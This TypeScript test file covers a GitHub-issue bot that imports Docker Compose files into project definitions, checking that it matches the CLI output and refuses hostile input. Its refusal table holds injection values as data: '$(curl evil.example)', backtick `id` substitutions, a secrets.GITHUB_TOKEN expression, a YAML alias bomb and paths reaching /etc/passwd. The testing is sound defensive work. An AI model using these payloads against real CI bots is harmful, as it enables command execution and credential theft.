/**
 * The "New project from compose" issue -> projects/<name>.ts through the import itself: the same
 * bytes as `devfleet import compose <file> --name N --registry R --image S=I`, and hostile bodies
 * (huge, alias bombs, paths out of the folder, workflow and shell syntax) change nothing and get a
 * problem naming the form field, the service and the feature.
 */
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { importComposeIssue } from '../../generators/bots/import-compose-issue.ts';
import { GITHUB_BODY_MAX } from '../../generators/util/github-limits.ts';
import { runCli } from '../helpers/cli.ts';
import { copyOfExamples, REPO, snapshotTree, tempRoot } from '../helpers/fixtures.ts';
import { composeIssueBody } from '../helpers/issue-body.ts';
import { startRegistryStandIn, type RegistryStandIn } from '../helpers/registry-stand-in.ts';

const SHOP = [
  'services:',
  '  web:',
  '    build: .',
  '    ports: ["8080:80"]',
  '    depends_on: [db]',
  '    environment:',
  '      DB_URL: postgres://db:5432/shop',
  '  proxy:',
  '    image: nginx',
  '    expose: ["8081"]',
  '  db:',
  '    image: postgres:17.2',
  '    restart: always',
  '    volumes: [data:/var/lib/postgresql/data]',
  'volumes:',
  '  data:',
  '',
].join('\n');

/** The bot's import into a fresh copy of the examples: what it returned, and every file that changed. */
async function botImport(body: string) {
  const root = copyOfExamples();
  const before = snapshotTree(root);
  // Offline, as the CLI runs below with --offline: no test asks a real registry (test/compose/resolve-digest.test.ts asks a stand-in).
  const result = await importComposeIssue(root, body, { offline: true });
  const after = snapshotTree(root);
  const changed = Object.keys({ ...before, ...after }).filter((path) => before[path] !== after[path]);
  return { root, result, changed, text: (path: string) => after[path] };
}

describe('importComposeIssue: the same file as devfleet import compose', () => {
  it('GIVEN a compose file with a build-only service, an untagged image overridden and a registry WHEN the issue is imported THEN projects/<name>.ts has exactly the bytes of `devfleet import compose <file> --name --registry --image`', async () => {
    const bot = await botImport(composeIssueBody({ name: 'shop-web', compose: SHOP, registry: 'ghcr.io/acme', images: 'proxy=nginx:1.27' }));
    expect(bot.result).toEqual({ project: 'shop-web', file: 'projects/shop-web.ts', warnings: expect.any(Array) });
    expect(bot.changed).toEqual(['projects/shop-web.ts']);

    const cliRoot = copyOfExamples();
    const compose = join(tempRoot({ 'compose.yaml': SHOP }), 'compose.yaml');
    const cli = await runCli('import', 'compose', compose, '--name', 'shop-web', '--registry', 'ghcr.io/acme', '--image', 'proxy=nginx:1.27', '--no-synth', '--offline', '--root', cliRoot);
    expect(cli.code).toBe(0);
    const expected = readFileSync(join(cliRoot, 'projects/shop-web.ts'), 'utf8');
    expect(bot.text('projects/shop-web.ts')).toBe(expected);
    expect(expected).toContain("image: 'ghcr.io/acme/shop-web-web:dev',");

    // The warnings are the ones import prints, located in the form's "Compose file" field.
    const printed = cli.stderr.split('\n').slice(1).map((line) => line.replace(/^ {2}\S*compose\.yaml: /, ''));
    const warnings = 'warnings' in bot.result ? bot.result.warnings : [];
    expect(warnings.map((w) => `${w.where.replace(/^Compose file, line (\d+) \((.*)\)$/, '$2')}: ${w.message} (line ${/line (\d+)/.exec(w.where)?.[1]})`)).toEqual(printed);
    expect(warnings.map((w) => w.where)).toContain('Compose file, line 13 (services.db.restart)');
  });

  it('GIVEN "Who gets envs" WHEN imported THEN the definition gives envs to those developers only, and a developer the cluster lacks is named in that field', async () => {
    const bot = await botImport(composeIssueBody({ name: 'shop-web', compose: 'services:\n  web:\n    image: nginx:1.27\n', developers: 'alice, bob' }));
    expect(bot.text('projects/shop-web.ts')).toContain("developers: ['alice', 'bob'],");
    const unknown = await botImport(composeIssueBody({ name: 'shop-web', compose: 'services:\n  web:\n    image: nginx:1.27\n', developers: 'zed' }));
    expect(unknown.changed).toEqual([]);
    expect('problems' in unknown.result && unknown.result.problems.map((p) => p.where)).toEqual([expect.stringMatching(/^Who gets envs \(developers/)]);
  });
});

describe('importComposeIssue: an image without a version pinned by its registry, as devfleet import compose pins it', () => {
  let registry: RegistryStandIn;
  beforeAll(async () => {
    registry = await startRegistryStandIn();
  });
  afterAll(async () => {
    await registry.close();
  });

  it('GIVEN an untagged image its registry serves WHEN the issue is imported THEN the digest-pinned file has the bytes import compose writes', async () => {
    const text = `services:\n  web:\n    image: ${registry.host}/acme/web\n    ports: ["8080:80"]\n`;
    const root = copyOfExamples();
    const result = await importComposeIssue(root, composeIssueBody({ name: 'shop-web', compose: text }));
    expect(result).toEqual({ project: 'shop-web', file: 'projects/shop-web.ts', warnings: [expect.objectContaining({ where: 'Compose file, line 3 (services.web.image)', message: expect.stringContaining('pinned to the digest latest pointed at on') })] });
    const cliRoot = copyOfExamples();
    const cli = await runCli('import', 'compose', join(tempRoot({ 'compose.yaml': text }), 'compose.yaml'), '--name', 'shop-web', '--no-synth', '--root', cliRoot);
    expect(cli.code, cli.stderr).toBe(0);
    const expected = readFileSync(join(cliRoot, 'projects/shop-web.ts'), 'utf8');
    expect(expected).toContain(`@${registry.manifest('acme/web').digest}'`);
    expect(readFileSync(join(root, 'projects/shop-web.ts'), 'utf8')).toBe(expected);
  });
});

describe('importComposeIssue: an image without a version that no registry pinned, as devfleet import compose writes it', () => {
  it('GIVEN an untagged image that is not an official one, offline WHEN the issue is imported THEN the file follows latest (imagePullPolicy Always) with the bytes import compose --offline writes, and the warning says so', async () => {
    const text = 'services:\n  web:\n    image: acme/web\n    ports: ["8080:80"]\n';
    const root = copyOfExamples();
    const result = await importComposeIssue(root, composeIssueBody({ name: 'shop-web', compose: text }), { offline: true });
    expect(result).toEqual({ project: 'shop-web', file: 'projects/shop-web.ts', warnings: [expect.objectContaining({ where: 'Compose file, line 3 (services.web.image)', message: expect.stringContaining('it follows latest: "acme/web:latest" with imagePullPolicy: Always') })] });
    const cliRoot = copyOfExamples();
    const cli = await runCli('import', 'compose', join(tempRoot({ 'compose.yaml': text }), 'compose.yaml'), '--name', 'shop-web', '--no-synth', '--offline', '--root', cliRoot);
    expect(cli.code, cli.stderr).toBe(0);
    const expected = readFileSync(join(cliRoot, 'projects/shop-web.ts'), 'utf8');
    expect(expected).toContain("image: 'acme/web:latest',\n      imagePullPolicy: 'Always',\n");
    expect(readFileSync(join(root, 'projects/shop-web.ts'), 'utf8')).toBe(expected);
  });
});

/** The real compose files of test/fixtures/compose/, each pasted alone: those whose app has files beside it lose them, as the bot does. */
const FIXTURES = join(REPO, 'test', 'fixtures', 'compose');
const apps = readdirSync(FIXTURES, { withFileTypes: true }).filter((entry) => entry.isDirectory()).map((entry) => entry.name);

describe('importComposeIssue on real compose files: the outcome of devfleet import compose', () => {
  it.each(apps)('GIVEN %s pasted into the issue WHEN imported THEN the file, or every problem, is what import compose --registry gives for the file alone', async (app) => {
    const file = readdirSync(join(FIXTURES, app)).find((name) => /^(docker-)?compose\.ya?ml$/.test(name))!;
    const text = readFileSync(join(FIXTURES, app, file), 'utf8');
    const bot = await botImport(composeIssueBody({ name: 'imported', compose: text, registry: 'ghcr.io/acme' }));
    const cliRoot = copyOfExamples();
    const compose = join(tempRoot({ 'compose.yaml': text }), 'compose.yaml');
    const cli = await runCli('import', 'compose', compose, '--name', 'imported', '--registry', 'ghcr.io/acme', '--no-synth', '--offline', '--root', cliRoot);
    if (cli.code === 0) {
      expect('file' in bot.result, JSON.stringify(bot.result)).toBe(true);
      expect(bot.text('projects/imported.ts')).toBe(readFileSync(join(cliRoot, 'projects/imported.ts'), 'utf8'));
    } else {
      expect(cli.code).toBe(1);
      expect(bot.changed).toEqual([]);
      // import prints `<file>: <path>: <message> (line N)`; the bot says `Compose file, line N (<path>): <message>`.
      const printed = cli.stderr.split('\n').filter((line) => line.startsWith(compose)).map((line) => line.slice(compose.length + 2));
      const said = 'problems' in bot.result ? bot.result.problems.map((p) => { const m = /^Compose file(?:, line (\d+))?(?: \((.*)\))?$/.exec(p.where); return `${m?.[2] ?? '(file)'}: ${p.message}${m?.[1] ? ` (line ${m[1]})` : ''}`; }) : [];
      expect(printed.length).toBeGreaterThan(0);
      expect(said).toEqual(printed);
    }
  });
});

describe('importComposeIssue: refusals name the field, the service and the feature, and change nothing', () => {
  const refused: [string, string | Record<string, string>, RegExp[]][] = [
    ['a feature that does not translate', 'services:\n  web:\n    image: nginx:1.27\n    privileged: true\n', [/^Compose file, line 4 \(services\.web\.privileged\): privileged true does not translate/]],
    ['a build-only service and no registry', 'services:\n  web:\n    build: .\n', [/^Compose file \(services\): "web" only has build:, and a cluster cannot build images; pass --registry/]],
    ['an alias bomb', `x-a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\nx-b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nx-c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nx-d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\nx-e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nservices:\n  web:\n    image: nginx:1.27\n    command: *e\n`, [/^Compose file: expands to more than 100000 values through its anchors and aliases; use fewer aliases/]],
    ['an include that leaves the folder', 'include:\n  - ../../../../etc/passwd\nservices:\n  web:\n    image: nginx:1.27\n', [/^Compose file, line 2 \(include\[0\]\): leaves the compose file's folder \("\.\.\/\.\.\/\.\.\/\.\.\/etc\/passwd"\)/]],
    ['an include of an absolute path', 'include:\n  - /etc/hostname\nservices:\n  web:\n    image: nginx:1.27\n', [/^Compose file, line 2 \(include\[0\]\): is a path outside the compose file's folder/]],
    ['an include of a neighbour the issue cannot hold', 'include:\n  - other.yaml\nservices:\n  web:\n    image: nginx:1.27\n', [/^other\.yaml: \(file\): could not be read \(ENOENT\)/]],
    ['an env_file out of the folder', 'services:\n  web:\n    image: nginx:1.27\n    env_file: /etc/environment\n', [/^Compose file, line 4 \(services\.web\.env_file\): is a path outside the compose file's folder/]],
    ['a bind-mounted file of the runner', 'services:\n  web:\n    image: nginx:1.27\n    volumes: ["/etc/passwd:/etc/passwd:ro"]\n', [/^Compose file, line 4 \(services\.web\.volumes\[0\]\): /]],
    ['workflow expression syntax', 'services:\n  web:\n    image: nginx:1.27\n    environment:\n      TOKEN: ${{ secrets.GITHUB_TOKEN }}\n', [/^Compose file, line 5 \(services\.web\.environment\.TOKEN\): /]],
    ['an image override for a service that does not exist', { compose: 'services:\n  web:\n    image: nginx:1.27\n', images: 'web=nginx:1.27\napi=`id`:1' }, [/^Image overrides, line 3: "api=`id`:1" is not SERVICE=IMAGE:TAG|^Image overrides, line \d+: the compose file has no service "api"/]],
    ['backticks and a workflow expression in the project name', { name: '`id`${{ github.token }}', compose: 'services:\n  web:\n    image: nginx:1.27\n' }, [/^Project name: "`id`\$\{\{ github\.token \}\}" is not a valid project name/]],
    ['a registry with shell syntax', { compose: 'services:\n  web:\n    build: .\n', registry: '$(curl evil.example)' }, [/^Registry for built images: "\$\(curl evil\.example\)" contains spaces/]],
    ['an empty compose file field', { compose: '' }, [/^Compose file: is empty; paste the compose file/]],
    ['a taken project name', { name: 'shop', compose: 'services:\n  web:\n    image: nginx:1.27\n' }, [/^Project name: "shop" is already a project \(projects\/shop\.ts\); choose another name$/]],
  ];

  it.each(refused)('GIVEN %s WHEN the issue is imported THEN nothing changes and the problems say where', async (_, input, expected) => {
    const fields = typeof input === 'string' ? { compose: input } : input;
    const { result, changed } = await botImport(composeIssueBody({ name: 'brand-new', ...fields }));
    expect(changed).toEqual([]);
    expect('problems' in result).toBe(true);
    const lines = 'problems' in result ? result.problems.map((p) => `${p.where}: ${p.message}`) : [];
    for (const pattern of expected) expect(lines.some((line) => pattern.test(line)), `${lines.join('\n')}\ndoes not match ${pattern}`).toBe(true);
  });

  it('GIVEN a body larger than GitHub allows (a huge compose file) WHEN imported THEN it is refused before anything is parsed', async () => {
    const huge = `services:\n  web:\n    image: nginx:1.27\n    environment:\n${'      A: "x"\n'.repeat(GITHUB_BODY_MAX / 10)}`;
    const { result, changed } = await botImport(composeIssueBody({ name: 'brand-new', compose: huge }));
    expect(changed).toEqual([]);
    expect(result).toEqual({ problems: [{ where: 'issue body', message: expect.stringMatching(/^is \d+ characters long, more than GitHub allows \(65536\); open the issue with the "New project from compose" form$/) }] });
  });

  it('GIVEN a compose file that names the runner\'s files WHEN imported THEN none of them is read into the definition (a neighbour of the import\'s folder does not exist)', async () => {
    // A file beside where the bot's temporary folder is made must stay out of reach as well.
    const secret = join(tempRoot({ 'secret.txt': 'TOP-SECRET' }), 'secret.txt');
    writeFileSync(secret, 'TOP-SECRET');
    const { result, changed } = await botImport(composeIssueBody({ name: 'brand-new', compose: `services:\n  web:\n    image: nginx:1.27\n    volumes: ["${secret}:/secret.txt"]\n    env_file: ["../${secret.split('/').slice(-2).join('/')}"]\n` }));
    expect(changed).toEqual([]);
    expect(JSON.stringify(result)).not.toContain('TOP-SECRET');
  });
});
